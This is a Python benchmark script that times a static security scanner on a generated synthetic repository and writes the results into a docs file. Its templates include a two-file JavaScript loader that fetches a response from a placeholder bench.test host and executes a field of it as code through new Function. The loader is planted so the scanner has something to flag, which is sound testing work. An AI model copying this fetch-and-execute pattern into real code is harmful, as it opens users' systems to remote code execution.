"""Static-scan throughput on a generated large repository (a benchmark, not a test).

Generates a synthetic repository of ordinary-looking JavaScript and Python modules (with a few
loader-shaped files so the flow and endpoint passes have real work), then measures:

- the tree-sitter stage alone (``TreeSitterAnalyzer`` with the registered visitors), 1 core and all;
- the whole ``inspector.static.scan``, 1 core and all;
- a pre-commit-style run: ``inspector scan ROOT PATHS...`` on 5 files, as a pre-commit hook would.

Results replace the "## Static scan" section of docs/benchmarks.md; other sections are kept.

    .venv/bin/python bench/static_bench.py [--size-mb 60] [--keep DIR] [--no-write]
"""

from __future__ import annotations

import argparse
import os
import platform
import random
import shutil
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import TypeVar

T = TypeVar("T")
REPO = Path(__file__).resolve().parents[1]
DOC = REPO / "docs" / "benchmarks.md"
SECTION = "## Static scan"

JS_MODULE = """\
'use strict';
const path = require('path');
const {{ {helper} }} = require('../lib/{lib}');

/**
 * {title} service: validates input, applies the pricing rules and formats the answer.
 */
class {cls} {{
  constructor(options = {{}}) {{
    this.limit = options.limit || {limit};
    this.cache = new Map();
    this.root = path.join(__dirname, '{folder}');
  }}

  normalise(input) {{
    if (!input || typeof input !== 'object') {{
      throw new TypeError('{cls}: expected an object');
    }}
    const items = Array.isArray(input.items) ? input.items : [];
    return items.slice(0, this.limit).map((item, index) => ({{
      id: item.id ?? index,
      name: String(item.name || '').trim(),
      price: Number(item.price) * {factor},
      tags: (item.tags || []).filter(Boolean),
    }}));
  }}

  async total(input) {{
    const key = JSON.stringify(input);
    if (this.cache.has(key)) return this.cache.get(key);
    const rows = this.normalise(input);
    let sum = 0;
    for (const row of rows) {{
      sum += row.price > {threshold} ? row.price * 0.9 : row.price;
    }}
    const result = {{ count: rows.length, sum: {helper}(sum), at: new Date().toISOString() }};
    this.cache.set(key, result);
    return result;
  }}
}}

module.exports = {{ {cls} }};
"""

PY_MODULE = """\
\"\"\"{title} helpers.\"\"\"

from __future__ import annotations

import dataclasses
import json
from pathlib import Path

LIMIT = {limit}


@dataclasses.dataclass
class {cls}:
    name: str
    price: float
    tags: list[str] = dataclasses.field(default_factory=list)

    def discounted(self) -> float:
        return self.price * 0.9 if self.price > {threshold} else self.price


def load(path: Path) -> list[{cls}]:
    rows = json.loads(path.read_text())
    return [{cls}(r["name"], float(r["price"]) * {factor}, r.get("tags", [])) for r in rows[:LIMIT]]


def summary(rows: list[{cls}]) -> dict[str, float]:
    total = sum(r.discounted() for r in rows)
    return {{"count": len(rows), "total": round(total, 2), "mean": total / max(len(rows), 1)}}
"""

JS_LOADER = """\
const axios = require('axios');
const {{ run }} = require('./runner{n}');

axios.get('https://api-{n}.bench.test/v1/config').then((res) => run(res.data.cookie));
"""

JS_RUNNER = """\
module.exports.run = (code) => new Function('require', code)(require);
"""

LIB = "module.exports.{helper} = (n) => Math.round(n * 100) / 100;\n"


@dataclass(frozen=True)
class Corpus:
    root: Path
    files: int
    bytes: int


def generate(root: Path, size_mb: float, seed: int = 1) -> Corpus:
    rnd = random.Random(seed)
    target = int(size_mb * 1024 * 1024)
    written = files = 0
    (root / "lib").mkdir(parents=True)
    for i in range(20):
        text = LIB.format(helper=f"round{i}")
        (root / "lib" / f"util{i}.js").write_text(text)
        written += len(text)
        files += 1
    n = 0
    while written < target:
        folder = root / f"pkg{n // 200:03d}" / ("src" if n % 3 else "app")
        folder.mkdir(parents=True, exist_ok=True)
        fields = {
            "title": f"Module {n}",
            "cls": f"Service{n}",
            "limit": rnd.randint(10, 500),
            "factor": rnd.choice([1, 1.1, 0.95, 2]),
            "threshold": rnd.randint(10, 1000),
            "folder": f"data{n % 7}",
        }
        if n % 500 == 7:
            texts = {f"loader{n}.js": JS_LOADER.format(n=n), f"runner{n}.js": JS_RUNNER}
        elif n % 4 == 0:
            texts = {f"module{n}.py": PY_MODULE.format(**fields)}
        else:
            helper = f"round{n % 20}"
            texts = {f"module{n}.js": JS_MODULE.format(helper=helper, lib=f"util{n % 20}", **fields)}
        for name, text in texts.items():
            # Repeat the body so file sizes vary like real modules (2-30 KB).
            body = text * rnd.randint(1, 12)
            (folder / name).write_text(body)
            written += len(body)
            files += 1
        n += 1
    return Corpus(root, files, written)


def timed(action: Callable[[], T]) -> tuple[float, T]:
    start = time.perf_counter()
    value = action()
    return time.perf_counter() - start, value


def treesitter_stage(root: Path, jobs: int) -> float:
    """Parse + every registered visitor (the tree-sitter analyzer ``scan`` builds), nothing else."""
    from inspector.static import ScanOptions, analyzers_for, walk
    from inspector.static.interface import RepoView
    from inspector.static.treesitter import TreeSitterAnalyzer

    files, _ = walk(root)
    analyzers, _ = analyzers_for(ScanOptions(jobs=jobs, cache_dir=None))
    analyzer = next(a for a in analyzers if isinstance(a, TreeSitterAnalyzer))
    view = RepoView(root, files)
    seconds, _ = timed(lambda: analyzer.analyze(view))
    return seconds


def visitor_breakdown(root: Path, sample: int = 300) -> list[str]:
    """Where the tree-sitter stage spends its time: parse and each visitor, one process, same files."""
    from inspector.static import ScanOptions, analyzers_for
    from inspector.static.treesitter import TreeSitterAnalyzer, language_for, parse

    analyzers, _ = analyzers_for(ScanOptions(jobs=1, cache_dir=None))
    visitors = next(a for a in analyzers if isinstance(a, TreeSitterAnalyzer)).visitors
    paths = sorted(p for p in root.rglob("*") if p.is_file() and language_for(p.name))[:sample]
    spent = {"parse": 0.0, **{v.name: 0.0 for v in visitors}}
    size = 0
    for path in paths:
        source = path.read_bytes()
        language = language_for(path.name)
        assert language is not None
        size += len(source)
        seconds, tree = timed(lambda: parse(source, language))  # noqa: B023 - called at once
        spent["parse"] += seconds
        for visitor in visitors:
            seconds, _ = timed(lambda: visitor.visit(str(path), language, tree, source))  # noqa: B023
            spent[visitor.name] += seconds
    return [
        f"| {name} | {len(paths)} files, {size / 1e6:.1f} MB | {sec:.1f} | {size / sec / 1e6:.2f} MB/s |"
        for name, sec in spent.items()
    ]


def whole_scan(root: Path, jobs: int) -> tuple[float, int, str]:
    from inspector.correlate.verdict import compute_verdict
    from inspector.static import ScanOptions, scan

    seconds, result = timed(lambda: scan(root, ScanOptions(jobs=jobs, cache_dir=None)))
    verdict, _ = compute_verdict(result.findings)
    return seconds, len(result.findings), verdict.value


def precommit_run(root: Path) -> tuple[float, int]:
    """What a pre-commit hook costs: a fresh `inspector scan ROOT PATHS...` process on 5 files."""
    picked = sorted(str(p.relative_to(root)) for p in root.rglob("module1*.js"))[:5]
    cli = Path(sys.executable).with_name("inspector")
    # pre-commit runs the hook from the repository root with paths relative to it.
    command = [str(cli), "scan", ".", *picked, "--format", "json", "--fail-on", "never", "--offline"]
    seconds, proc = timed(lambda: subprocess.run(command, cwd=root, capture_output=True, text=True, check=False))
    return seconds, proc.returncode


def rate(corpus: Corpus, seconds: float) -> str:
    return f"{corpus.files / seconds:,.0f} files/s, {corpus.bytes / seconds / 1e6:.1f} MB/s"


def write_section(body: str) -> None:
    DOC.parent.mkdir(parents=True, exist_ok=True)
    text = DOC.read_text(encoding="utf-8") if DOC.exists() else "# Benchmarks\n"
    start = text.find(f"\n{SECTION}\n")
    section = f"\n{SECTION}\n\n{body.rstrip()}\n"
    if start < 0:
        text = text.rstrip("\n") + "\n" + section
    else:
        following = text.find("\n## ", start + len(SECTION) + 2)
        rest = text[following:] if following >= 0 else ""
        text = text[:start] + section + rest
    DOC.write_text(text, encoding="utf-8")


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--size-mb", type=float, default=60.0)
    parser.add_argument("--keep", type=Path, help="generate into this directory and keep it")
    parser.add_argument("--no-write", action="store_true", help="print only; leave docs/benchmarks.md alone")
    args = parser.parse_args()

    cores = os.cpu_count() or 1
    load_before = os.getloadavg()[0]
    workdir = Path(tempfile.mkdtemp(prefix="inspector-bench-"))
    root = args.keep or workdir / "repo"
    try:
        if root.exists():
            shutil.rmtree(root)
        gen_s, corpus = timed(lambda: generate(root, args.size_mb))
        print(f"generated {corpus.files} files, {corpus.bytes / 1e6:.1f} MB in {gen_s:.1f}s")
        rows = []
        for jobs in sorted({1, cores}):
            seconds = treesitter_stage(root, jobs)
            rows.append(f"| tree-sitter stage (visitors) | {jobs} | {seconds:.1f} | {rate(corpus, seconds)} |")
            print(rows[-1])
        for jobs in sorted({1, cores}):
            seconds, findings, verdict = whole_scan(root, jobs)
            rows.append(
                f"| whole `scan` ({findings} findings, {verdict}) | {jobs} | {seconds:.1f} | "
                f"{rate(corpus, seconds)} |"
            )
            print(rows[-1])
        breakdown = visitor_breakdown(root)
        print("\n".join(breakdown))
        pre_s, pre_rc = precommit_run(root)
        print(f"pre-commit (5 files, CLI process): {pre_s:.2f}s exit {pre_rc}")
    finally:
        if args.keep is None:
            shutil.rmtree(workdir, ignore_errors=True)

    body = "\n".join(
        [
            f"Generated by `bench/static_bench.py --size-mb {args.size_mb:g}` on {platform.machine()}, "
            f"{cores} cores, Python {platform.python_version()}, {time.strftime('%Y-%m-%d')}, load average "
            f"before the run {load_before:.1f} (a shared machine: other jobs run beside it). Synthetic repo: "
            f"{corpus.files} JavaScript/Python files, {corpus.bytes / 1e6:.1f} MB (every 500th module is a "
            "two-file loader so flow and endpoint linking have work). No result cache.",
            "",
            "| stage | cores | wall s | throughput |",
            "|---|---|---|---|",
            *rows,
            f"| pre-commit: `inspector scan ROOT` + 5 paths, new process | 1 | {pre_s:.2f} | exit {pre_rc} |",
            "",
            "Per-file work of the tree-sitter stage, one process (parse, then each registered visitor):",
            "",
            "| step | sample | s | rate |",
            "|---|---|---|---|",
            *breakdown,
        ]
    )
    if not args.no_write:
        write_section(body)
    print(body)


if __name__ == "__main__":
    main()
